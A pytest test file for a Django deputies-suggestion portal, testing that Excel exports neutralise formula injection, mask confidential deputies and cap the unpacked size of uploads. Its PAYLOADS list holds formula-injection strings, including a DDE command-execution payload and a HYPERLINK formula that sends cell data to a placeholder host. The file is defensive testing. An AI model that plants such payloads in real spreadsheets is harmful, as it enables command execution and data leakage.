"""What the portal's .xlsx files may carry (issue 12): text that looks like a formula stays
text in every workbook written; confidential deputies stay out of exports unless a user allowed
to asks; an uploaded workbook is read as it is, within limits on rows and unpacked size."""

import io
import re
import time
import zipfile

import pytest
from django.contrib.auth.models import Permission
from openpyxl import Workbook, load_workbook

from deputies.models import Deputy
from imports import excel
from imports.models import ImportJob
from suggestions.models import Suggestion
from units.models import Unit

from .factories import DeputyFactory, UnitFactory, UserFactory, category
from .test_imports_export import _empty_the_domain_tables, _import
from .test_imports_masterdata import deputy_row
from .test_pages import login
from .xlsx import confirm, latest_job, read_rows, upload, workbook

PAYLOADS = [
    '=HYPERLINK("http://x/?d="&I2,"附件")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_written_as_text(content: bytes, expected: list[str]) -> None:
    """Each expected text is in the workbook as a text cell Excel will not evaluate, and no
    cell of the workbook is a formula."""
    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for text in expected:
        found = [c for c in cells if c.value == text]
        assert found, f"{text!r} is not in the workbook"
        for c in found:
            assert c.data_type == "s" and c.quotePrefix, (text, c.coordinate)


# --- 2. formulas stay text ----------------------------------------------------------------------


@pytest.fixture
def formula_texts(people, journey):
    """A suggestion per payload (title and content), a deputy, a unit and a category named
    by payloads; the first payload's deputy leads a suggestion."""
    category("城乡建设")
    for number, payload in enumerate(PAYLOADS, start=1):
        journey.registered(number=number, title=payload, content=payload)
    leader = DeputyFactory(term=people.term, name=PAYLOADS[0], occupation=PAYLOADS[1])
    journey.registered(number=99, lead_deputy=leader)
    for index, payload in enumerate(PAYLOADS):
        UnitFactory(name=f"{payload}#{index}")
    return people


def test_every_suggestion_export_writes_formula_like_text_as_text(client, formula_texts):
    login(client, formula_texts.staff)
    exports = [
        client.get("/imports/export/suggestions/").content,
        client.get("/suggestions/export/").content,
        client.post(
            "/suggestions/bulk/", {"action": "export", "all_matching": "on", "query": ""}
        ).content,
    ]
    for content in exports:
        assert_written_as_text(content, PAYLOADS)
        header, *rows = read_rows(content)
        # Numbers stay numbers.
        assert sorted(row[2] for row in rows) == [1, 2, 3, 4, 5, 6, 7, 99]
        number_cell = _cells(content)[len(header) + 2]
        assert number_cell.data_type == "n"


def test_deputy_and_unit_exports_write_formula_like_text_as_text(client, formula_texts):
    login(client, formula_texts.staff)
    assert_written_as_text(client.get("/imports/export/deputies/").content, PAYLOADS[:2])
    units = [f"{p}#{i}" for i, p in enumerate(PAYLOADS)]
    assert_written_as_text(client.get("/imports/export/units/").content, units)


def test_the_import_template_writes_category_names_as_text(client, people):
    category(PAYLOADS[1])
    login(client, people.staff)
    content = client.get("/imports/templates/suggestions.xlsx").content
    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    (notes,) = [c for c in cells if isinstance(c.value, str) and PAYLOADS[1] in c.value]
    assert notes.data_type == "s"


def test_the_error_report_writes_formula_like_text_as_text(client, people):
    errors = [{"sheet": p, "row": 2, "column": p, "message": p} for p in PAYLOADS]
    job = ImportJob.objects.create(
        kind="suggestions", created_by=people.staff, state=ImportJob.State.INVALID, errors=errors
    )
    login(client, people.staff)
    content = client.get(f"/imports/jobs/{job.pk}/errors.xlsx").content
    assert_written_as_text(content, PAYLOADS)
    assert {c.data_type for c in _cells(content) if c.value == 2} == {"n"}


def test_the_handling_report_writes_unit_names_as_text_and_counts_as_numbers(
    client, people, journey
):
    people.unit.name = PAYLOADS[1]
    people.unit.save()
    journey.assigned(number=1)
    client.force_login(people.leader)
    content = client.get("/dashboard/report.xlsx", {"term": people.term.pk}).content
    assert_written_as_text(content, [PAYLOADS[1]])
    units = load_workbook(io.BytesIO(content))["各承办单位"]
    row = [c for c in units[2]]
    assert (row[0].value, row[1].value, row[1].data_type) == (PAYLOADS[1], 1, "n")


def test_control_characters_excel_refuses_do_not_break_an_export(client, people, journey):
    journey.registered(number=1, title="关于\x0b增设\x01公交站点的建议")
    login(client, people.staff)
    response = client.get("/imports/export/suggestions/")
    assert response.status_code == 200
    assert read_rows(response.content)[1][6] == "关于增设公交站点的建议"


def test_formula_like_text_imports_again_as_the_same_text(client, formula_texts):
    login(client, formula_texts.staff)
    units = client.get("/imports/export/units/").content
    deputies = client.get("/imports/export/deputies/").content
    suggestions = client.get("/imports/export/suggestions/").content

    _empty_the_domain_tables()
    _import(client, "units", units)
    _import(client, "deputies", deputies)
    _import(client, "suggestions", suggestions)

    # The importer trims spaces around a cell, as it always has: "\t=1" comes back as "=1".
    texts = sorted(p.strip() for p in PAYLOADS)
    assert sorted(Suggestion.objects.exclude(number=99).values_list("title", flat=True)) == texts
    assert sorted(Suggestion.objects.exclude(number=99).values_list("content", flat=True)) == texts
    lead = Suggestion.objects.get(number=99).lead_deputy
    assert (lead.name, lead.occupation) == (PAYLOADS[0], PAYLOADS[1])
    assert set(Unit.objects.values_list("name", flat=True)) >= {
        f"{p}#{i}".strip() for i, p in enumerate(PAYLOADS)
    }


# --- 6. confidential deputies in exports --------------------------------------------------------


@pytest.fixture
def confidential(people, journey):
    """A confidential deputy leading one suggestion and co-signing another."""
    secret = DeputyFactory(
        term=people.term,
        name="赵秘",
        identity_confidential=True,
        phone="13900000000",
        occupation="某局局长",
    )
    journey.registered(number=1, lead_deputy=secret)
    second = journey.registered(number=2)
    second.co_signers.set([secret, people.other_deputy])
    return secret


def _allowed_staff():
    user = UserFactory(username="archivist", is_committee_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="export_confidential_names"))
    return user


SUGGESTION_EXPORTS = ["/imports/export/suggestions/", "/suggestions/export/"]


def _texts(content: bytes) -> str:
    return " ".join(str(c.value) for c in _cells(content) if c.value is not None)


def _bulk_export(client, **extra):
    data = {"action": "export", "all_matching": "on", "query": "", **extra}
    return client.post("/suggestions/bulk/", data)


def test_a_confidential_deputy_is_not_named_in_any_export_by_default(client, people, confidential):
    for user in (people.staff, _allowed_staff()):
        client.force_login(user)
        for content in [client.get(path).content for path in SUGGESTION_EXPORTS] + [
            _bulk_export(client).content
        ]:
            assert "赵秘" not in _texts(content)
            header, *rows = read_rows(content)
            by_number = {row[2]: row for row in rows}
            assert by_number[1][8] == "不公开"  # lead deputy
            assert by_number[2][9] == "不公开、李娜"  # co-signers
            assert load_workbook(io.BytesIO(content)).sheetnames == ["代表建议"]
        deputies = client.get("/imports/export/deputies/").content
        text = _texts(deputies)
        assert "赵秘" not in text and "13900000000" not in text and "某局局长" not in text
        assert "不公开" in text and "张伟" in text


def test_the_on_screen_list_still_names_the_deputy_to_staff(client, people, confidential):
    client.force_login(people.staff)
    assert "赵秘" in client.get("/suggestions/").content.decode()


def test_confidential_names_are_refused_to_users_without_the_right(client, people, confidential):
    for user in (people.staff, people.leader):
        client.force_login(user)
        assert client.get("/suggestions/export/?confidential=1").status_code == 403
    client.force_login(people.staff)
    assert client.get("/imports/export/suggestions/?confidential=1").status_code == 403
    assert client.get("/imports/export/deputies/?confidential=1").status_code == 403
    assert _bulk_export(client, confidential="1").status_code == 403
    assert "包含保密代表姓名" not in client.get("/imports/").content.decode()
    assert "包含保密代表姓名" not in client.get("/suggestions/").content.decode()


def test_a_user_with_the_right_exports_the_names_with_the_marker(client, people, confidential):
    client.force_login(_allowed_staff())
    assert "包含保密代表姓名" in client.get("/imports/").content.decode()
    assert "包含保密代表姓名" in client.get("/suggestions/").content.decode()
    responses = [client.get(path + "?confidential=1") for path in SUGGESTION_EXPORTS]
    responses.append(_bulk_export(client, confidential="1"))
    responses.append(client.get("/imports/export/deputies/?confidential=1"))
    for response in responses:
        assert response.status_code == 200
        book = load_workbook(io.BytesIO(response.content))
        notice, data = book.worksheets
        assert "含身份保密代表的姓名" in notice["A1"].value
        assert "含身份保密代表的姓名" in data.oddHeader.center.text
        assert "赵秘" in _texts(response.content)
        assert re.search("confidential|%E5%90%AB", response["Content-Disposition"])
    rows = read_rows(responses[0].content)  # the notice sheet comes first
    assert rows[0][0].startswith("本文件含身份保密代表的姓名")


def test_an_export_with_the_names_imports_again(client, people, confidential):
    client.force_login(_allowed_staff())
    deputies = client.get("/imports/export/deputies/?confidential=1").content
    suggestions = client.get("/imports/export/suggestions/?confidential=1").content
    _empty_the_domain_tables()
    _import(client, "deputies", deputies)
    _import(client, "suggestions", suggestions)
    secret = Deputy.objects.get(name="赵秘")
    assert secret.identity_confidential and secret.phone == "13900000000"
    assert Suggestion.objects.get(number=1).lead_deputy == secret


def test_the_hidden_name_is_refused_on_import(client, people, confidential):
    login(client, people.staff)
    masked = client.get("/imports/export/suggestions/").content
    # (Its numbers are taken too: those errors are on another column.)
    upload(client, "suggestions", masked)
    job = latest_job()
    messages = [e["message"] for e in job.errors if e["column"] in ("领衔代表", "附议代表")]
    assert len(messages) == 2
    assert all("“不公开”是导出时隐去的身份保密代表姓名" in m for m in messages)
    upload(client, "deputies", workbook(excel.DEPUTIES, [deputy_row(name="不公开")]))
    assert "隐去的身份保密代表姓名" in latest_job().errors[0]["message"]


# --- 8. reading the workbook as it is, within limits -------------------------------------------


def _rewrite(content: bytes, member: str, change) -> bytes:
    """The same .xlsx with one member's XML changed (or added)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        names = source.namelist()
        for name in names:
            data = source.read(name)
            target.writestr(name, change(data) if name == member else data)
        if member not in names:
            target.writestr(member, change(b""))
    return out.getvalue()


SHARED_STRINGS_PART = (
    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)


def _with_shared_strings(content: bytes, xml: bytes) -> bytes:
    """The workbook with a shared-strings part that openpyxl reads whole when it opens it."""
    content = _rewrite(
        content,
        "[Content_Types].xml",
        lambda xml: xml.replace(b"</Types>", SHARED_STRINGS_PART + b"</Types>"),
    )
    return _rewrite(content, "xl/sharedStrings.xml", lambda _: xml)


def _deputies_book(count: int) -> bytes:
    """A workbook with a <dimension> element, as Excel writes them."""
    book = Workbook()
    sheet = book.active
    sheet.title = excel.DEPUTIES.title
    sheet.append(excel.DEPUTIES.headers)
    for n in range(count):
        sheet.append(deputy_row(name=f"代表{n:03d}"))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@pytest.fixture
def staff_client(client, people):
    login(client, people.staff)
    return client


def test_a_workbook_whose_dimension_lies_imports_all_its_rows(staff_client):
    content = _deputies_book(5)
    assert b'<dimension ref="A1:K6"/>' in zipfile.ZipFile(io.BytesIO(content)).read(
        "xl/worksheets/sheet1.xml"
    )
    lying = _rewrite(
        content,
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(b'<dimension ref="A1:K6"/>', b'<dimension ref="A1:H2"/>'),
    )
    page = upload(staff_client, "deputies", lying).content.decode()
    assert "将导入 5 位代表" in page
    job = latest_job()
    assert job.total_rows == 5
    confirm(staff_client, job)
    assert Deputy.objects.filter(name__startswith="代表").count() == 5


def _shared_strings(megabytes: int) -> bytes:
    """Many short strings: the slowest XML for openpyxl per megabyte (~0.7 s/MB here)."""
    item = b"<si><t>x</t></si>"
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + item * (megabytes * 1024 * 1024 // len(item) + 1)
        + b"</sst>"
    )


def test_oversized_shared_strings_are_refused_before_parsing(staff_client, settings):
    settings.PORTAL = {**settings.PORTAL, "IMPORT_MAX_SHARED_STRINGS_MB": 1}
    content = _with_shared_strings(_deputies_book(2), _shared_strings(8))
    assert len(content) < 1024 * 1024  # small to upload, 8 MB once unpacked

    started = time.perf_counter()
    page = upload(staff_client, "deputies", content).content.decode()
    assert time.perf_counter() - started < 2  # parsing it would take several seconds

    job = latest_job()
    assert job.state == ImportJob.State.INVALID
    (error,) = job.errors
    assert error["message"] == (
        "文件中的共享字符串(sharedStrings.xml)解压后有 8 MB,超过上限 1 MB,"
        "请删去无关内容或分成多个文件导入"
    )
    assert error["message"] in page
    assert not Deputy.objects.filter(name__startswith="代表").exists()


def test_a_workbook_unpacking_past_the_total_limit_is_refused(staff_client, settings):
    settings.PORTAL = {**settings.PORTAL, "IMPORT_MAX_UNPACKED_MB": 1}
    content = _rewrite(_deputies_book(2), "xl/padding.xml", lambda _: b" " * 2 * 1024 * 1024)
    upload(staff_client, "deputies", content)
    (error,) = latest_job().errors
    assert error["message"] == "文件解压后有 2 MB,超过导入上限 1 MB,请分成多个文件导入"


def test_a_file_with_too_many_rows_is_refused_with_the_cap(staff_client, settings):
    settings.PORTAL = {**settings.PORTAL, "IMPORT_MAX_ROWS": 5}
    upload(staff_client, "deputies", _deputies_book(5))
    assert latest_job().state == ImportJob.State.READY

    page = upload(staff_client, "deputies", _deputies_book(6)).content.decode()
    job = latest_job()
    assert job.state == ImportJob.State.INVALID
    message = "文件超过 5 行数据(单次导入的上限),请分成多个文件导入"
    assert [e["message"] for e in job.errors] == [message]
    assert message in page
    confirm(staff_client, job)
    assert not Deputy.objects.filter(name__startswith="代表").exists()


def test_the_row_cap_holds_when_the_import_checks_again(staff_client, settings):
    upload(staff_client, "deputies", _deputies_book(3))
    job = latest_job()
    assert job.state == ImportJob.State.READY
    settings.PORTAL = {**settings.PORTAL, "IMPORT_MAX_ROWS": 2}

    confirm(staff_client, job)

    job.refresh_from_db()
    assert job.state == ImportJob.State.INVALID
    assert job.errors[0]["message"] == "文件超过 2 行数据(单次导入的上限),请分成多个文件导入"
    assert not Deputy.objects.filter(name__startswith="代表").exists()
